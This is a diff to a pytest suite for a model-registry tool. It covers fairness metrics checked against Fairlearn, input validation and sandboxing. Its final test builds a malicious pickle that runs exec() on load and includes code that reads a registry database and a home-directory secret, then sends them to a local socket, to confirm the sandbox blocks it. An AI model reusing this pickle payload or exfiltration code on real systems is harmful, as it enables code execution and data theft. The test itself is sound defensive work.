@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
+import os
+import socket
 from pathlib import Path
 from typing import Any
 
@@ -15,7 +18,9 @@ from fairlearn.metrics import (
     demographic_parity_difference,
     demographic_parity_ratio,
     equalized_odds_difference,
+    false_positive_rate,
     selection_rate,
+    true_positive_rate,
 )
 from skl2onnx import to_onnx
 from sklearn.dummy import DummyClassifier
@@ -79,43 +84,65 @@ def test_a_registered_version_is_evaluated_in_the_sandbox_and_recorded(
         assert registry.audit()[-1].action == "evaluate"
 
 
+@pytest.mark.parametrize("labels", ["text", "integers", "floats"])
 def test_group_fairness_equals_fairlearns_own_on_the_same_predictions(
-    steward: Steward, models: dict[str, Any]
+    steward: Steward, models: dict[str, Any], tmp_path: Path, labels: str
 ) -> None:
-    folder = str(models["root"] / "adult-lr")
-    evaluated = steward("evaluate", folder, "--data", str(models["data"]), *COLUMNS, *FAST, "--json")
-    fairness = evaluated.json()["fairness"]
     data = pd.read_csv(models["data"])
-    predicted = models["fitted"]["adult-lr"].predict(data[list(ADULT_FEATURES)].to_numpy())
-    truth = data["income"].to_numpy()
-    assert fairness["group_metrics"]["positive"] == ">50K"  # the rarer label, when none is named
+    model = models["fitted"]["adult-lr"]
+    folder, favourable = models["root"] / "adult-lr", ">50K"
+    if labels != "text":
+        # The same classifier trained on 0/1; the data's labels as 0/1 or as 0.0/1.0 (how a file with a
+        # missing value stores integers) must mean the same classes.
+        train = adult(3000, seed=1)
+        model = make_pipeline(StandardScaler(), LogisticRegression(max_iter=1000))
+        model.fit(train[list(ADULT_FEATURES)].to_numpy(), (train["income"] == ">50K").astype(int))
+        folder = tmp_path / "adult-lr-01"
+        folder.mkdir()
+        joblib.dump(model, folder / "model.joblib")
+        flags = (data["income"] == ">50K").astype(int)
+        data["income"] = flags.astype(float) if labels == "floats" else flags
+        favourable = "1"
+    path = tmp_path / "adult.csv"
+    data.to_csv(path, index=False)
+    evaluated = steward("evaluate", str(folder), "--data", str(path), *COLUMNS, *FAST, "--json").json()
+    fairness = evaluated["fairness"]
+    predicted = np.asarray([str(v) for v in model.predict(data[list(ADULT_FEATURES)].to_numpy())])
+    truth = np.asarray([str(int(v)) if labels == "floats" else str(v) for v in data["income"]])
+    assert fairness["group_metrics"]["positive"] == favourable  # the rarer label, or the true flag
+    assert evaluated["metrics"]["accuracy"]["value"] == pytest.approx(float(np.mean(truth == predicted)))
     gaps = {gap["feature"]: gap for gap in fairness["groups"]}
-    # Fairlearn's own numbers on the same predictions; small race groups (< 30 rows) are not judged.
-    judged = data["race"].map(data["race"].value_counts()) >= 30
-    for feature, rows in (("sex", np.ones(len(data), bool)), ("race", judged.to_numpy())):
+    selected, actual = predicted == favourable, truth == favourable
+    # Fairlearn's own numbers on the same predictions; groups under 30 rows are not judged.
+    for feature, columns in (("sex", ["sex"]), ("race", ["race"]), ("sex x race", ["sex", "race"])):
+        groups = data[columns].astype(str).agg(" ".join, axis=1)
+        rows = (groups.map(groups.value_counts()) >= 30).to_numpy()
+        kept = data[columns][rows]
         expected = {
             "demographic_parity_difference": demographic_parity_difference(
-                truth[rows] == ">50K", predicted[rows] == ">50K", sensitive_features=data[feature][rows]
+                actual[rows], selected[rows], sensitive_features=kept
             ),
             "demographic_parity_ratio": demographic_parity_ratio(
-                truth[rows] == ">50K", predicted[rows] == ">50K", sensitive_features=data[feature][rows]
+                actual[rows], selected[rows], sensitive_features=kept
             ),
             "equalized_odds_difference": equalized_odds_difference(
-                truth[rows] == ">50K", predicted[rows] == ">50K", sensitive_features=data[feature][rows]
+                actual[rows], selected[rows], sensitive_features=kept
             ),
         }
         for key, value in expected.items():
             assert gaps[feature][key] == pytest.approx(value, abs=1e-12), (feature, key)
     frame = MetricFrame(
-        metrics=selection_rate,
-        y_true=truth == ">50K",
-        y_pred=predicted == ">50K",
+        metrics={"selection_rate": selection_rate, "tpr": true_positive_rate, "fpr": false_positive_rate},
+        y_true=actual,
+        y_pred=selected,
         sensitive_features=data["sex"],
-    )
+    ).by_group
     sex = next(d for d in fairness["group_metrics"]["disparities"] if d["features"] == ["sex"])
-    rates = {group["group"]["sex"]: group["selection_rate"] for group in sex["groups"]}
-    assert rates == pytest.approx(frame.by_group.to_dict())
-    assert "sex x race" in gaps
+    for group in sex["groups"]:
+        expected_rates = frame.loc[group["group"]["sex"]]
+        assert group["selection_rate"] == pytest.approx(expected_rates["selection_rate"])
+        assert group["true_positive_rate"] == pytest.approx(expected_rates["tpr"])
+        assert group["false_positive_rate"] == pytest.approx(expected_rates["fpr"])
 
 
 def test_compare_ranks_the_better_model_first_and_shows_the_gap_is_significant(
@@ -163,24 +190,85 @@ def test_text_output_shows_the_interval_and_the_groups(steward: Steward, models:
     assert "isolation: bubblewrap" in result.stdout
 
 
+LABELLED = ("--columns", "label=income")
+# The four numeric columns other than age, for a regression on age.
+BY_AGE = "label=age," + ",".join(f"features={name}" for name in ADULT_FEATURES if name != "age")
+BY_INCOME = "label=income," + ",".join(f"features={name}" for name in ADULT_FEATURES)
+
+
 @pytest.mark.parametrize(
     ("args", "message"),
     [
         (("--columns", "label=incme"), "did you mean 'income'"),
-        (("--columns", "label=income", "--limit", "0"), "limit"),
-        (("--columns", "label=income", "--sensitive", "gender"), "gender"),
-        (("--columns", "label=income", "--batch-sizes", "0"), "--batch-sizes"),
-        (("--columns", "label=income", "--memory", "lots"), "--memory"),
+        ((*LABELLED, "--limit", "0"), "limit"),
+        ((*LABELLED, "--sensitive", "gender"), "gender"),
+        ((*LABELLED, "--batch-sizes", "0"), "--batch-sizes"),
+        ((*LABELLED, "--memory", "lots"), "--memory"),
+        ((*LABELLED, "--memory", "50M"), "--memory must be at least 512M"),
+        ((*LABELLED, "--timeout", "0"), "--timeout must be a positive"),
+        ((*LABELLED, "--min-group", "0"), "--min-group"),
+        (
+            (*COLUMNS[2:], "--positive", "rich"),
+            "favourable label 'rich' is not in the data",
+        ),
+        ((*LABELLED, "--run-option", "max_new_tokens=abc"), "max_new_tokens must be a whole number"),
+        ((*LABELLED, "--run-option", "colour=1"), "'colour' is not a run option"),
+        (
+            ("--task", "regression", "--columns", BY_INCOME),
+            "regression needs numbers in the label column 'income'",
+        ),
+        (("--task", "regression", "--columns", BY_AGE, "--sensitive", "sex"), "needs a classification"),
     ],
 )
-def test_bad_options_and_data_are_named_and_exit_4(
+def test_bad_options_and_data_are_named_before_the_model_runs(
     steward: Steward, models: dict[str, Any], args: tuple[str, ...], message: str
 ) -> None:
     folder = str(models["root"] / "adult-lr")
-    result = steward("evaluate", folder, "--data", str(models["data"]), "--task", "classification", *args)
-    assert result.exit_code == 4
+    task = () if "--task" in args else COLUMNS[:2]
+    result = steward("evaluate", folder, "--data", str(models["data"]), *task, *args)
+    assert result.exit_code == 4, result.stderr
     assert message in result.stderr
     assert "Traceback" not in result.stderr
+    assert not (Path(os.environ["STEWARD_HOME"]) / "registry.db").exists()
+
+
+def test_a_task_the_model_cannot_do_is_named_after_loading(steward: Steward, models: dict[str, Any]) -> None:
+    folder = str(models["root"] / "adult-lr")
+    columns = ("--task", "regression", "--columns", BY_AGE)
+    result = steward("evaluate", folder, "--data", str(models["data"]), *columns)
+    assert result.exit_code == 2
+    assert "can classify, not regress, which the regression task needs" in result.stderr
+
+
+@pytest.mark.parametrize(
+    ("candidates", "extra", "message"),
+    [
+        (("adult-lr",), (), "at least two models"),
+        (("adult-lr", "adult-lr"), (), "given more than once: "),
+        (
+            ("adult-lr", "adult-majority"),
+            ("--metric", "mae"),
+            "mae is not measured by the classification task",
+        ),
+    ],
+)
+def test_a_comparison_that_cannot_be_made_is_refused_before_any_model_runs(
+    steward: Steward,
+    models: dict[str, Any],
+    candidates: tuple[str, ...],
+    extra: tuple[str, ...],
+    message: str,
+) -> None:
+    folders = [str(models["root"] / name) for name in candidates]
+    result = steward("compare", *folders, "--data", str(models["data"]), *COLUMNS, *extra)
+    assert result.exit_code == 4
+    assert message in result.stderr
+
+
+def test_a_missing_folder_is_named_as_one(steward: Steward, models: dict[str, Any]) -> None:
+    result = steward("evaluate", "./no-such-model", "--data", str(models["data"]), *COLUMNS)
+    assert result.exit_code == 2
+    assert "./no-such-model: no such folder" in result.stderr
 
 
 def test_admit_with_data_judges_the_measured_metrics_and_fairness_by_the_policy(
@@ -241,22 +329,58 @@ def test_a_model_rejected_on_its_files_is_never_run(
 
 
 def test_a_malicious_model_runs_only_in_the_sandbox_and_becomes_an_error(
-    steward: Steward, models: dict[str, Any], tmp_path: Path, canary: Path
+    steward: Steward, models: dict[str, Any], tmp_path: Path, canary: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    folder = tmp_path / "trojan"
-    folder.mkdir()
-    (folder / "model.pkl").write_bytes(_payload(canary))
-    result = steward("evaluate", str(folder), "--data", str(models["data"]), *COLUMNS, *FAST)
+    # What the model would steal: the registry database and a secret in the user's home.
+    assert steward("admit", str(models["root"] / "adult-lr"), "--name", "victim", "--json").exit_code in (
+        0,
+        3,
+    )
+    registry = Path(os.environ["STEWARD_HOME"]) / "registry.db"
+    home = tmp_path / "user"
+    home.mkdir()
+    (home / "secret").write_text("s3cret", encoding="utf-8")
+    monkeypatch.setenv("HOME", str(home))
+    heard: list[bytes] = []
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        listener.settimeout(0.2)
+        port = listener.getsockname()[1]
+        steal = (registry, home / "secret")
+        folder = tmp_path / "trojan"
+        folder.mkdir()
+        (folder / "model.pkl").write_bytes(_payload(canary, _exfiltration(steal, port)))
+        result = steward("evaluate", str(folder), "--data", str(models["data"]), *COLUMNS, *FAST)
+        with contextlib.suppress(TimeoutError):
+            connection, _ = listener.accept()
+            heard.append(connection.recv(1 << 16))
     assert result.exit_code == 2
     assert "cannot load the model" in result.stderr
     assert not canary.exists()
+    assert heard == []
 
 
-def _payload(canary: Path) -> bytes:
-    """A pickle that, when loaded, writes ``canary`` (creating its folder) and returns no model."""
-    code = (
-        f"import os; os.makedirs({str(canary.parent)!r}, exist_ok=True); open({str(canary)!r}, 'w').close()"
+def _exfiltration(paths: tuple[Path, ...], port: int) -> str:
+    """Code that reads ``paths`` and sends what it could read to 127.0.0.1:``port``."""
+    return (
+        "import socket\n"
+        "stolen = b''\n"
+        f"for path in {[str(p) for p in paths]!r}:\n"
+        "    try:\n"
+        "        stolen += open(path, 'rb').read()\n"
+        "    except OSError:\n"
+        "        pass\n"
+        "try:\n"
+        f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen:' + stolen)\n"
+        "except OSError:\n"
+        "    pass\n"
     )
+
+
+def _payload(canary: Path, more: str = "") -> bytes:
+    """A pickle that, when loaded, runs ``more``, writes ``canary`` (creating its folder) and returns no
+    model."""
+    touch = f"os.makedirs({str(canary.parent)!r}, exist_ok=True)\nopen({str(canary)!r}, 'w').close()\n"
+    code = f"{more}import os\n{touch}"
     return b"\x80\x04" + _global("builtins", "exec") + _string(code) + b"\x85R."
 
 
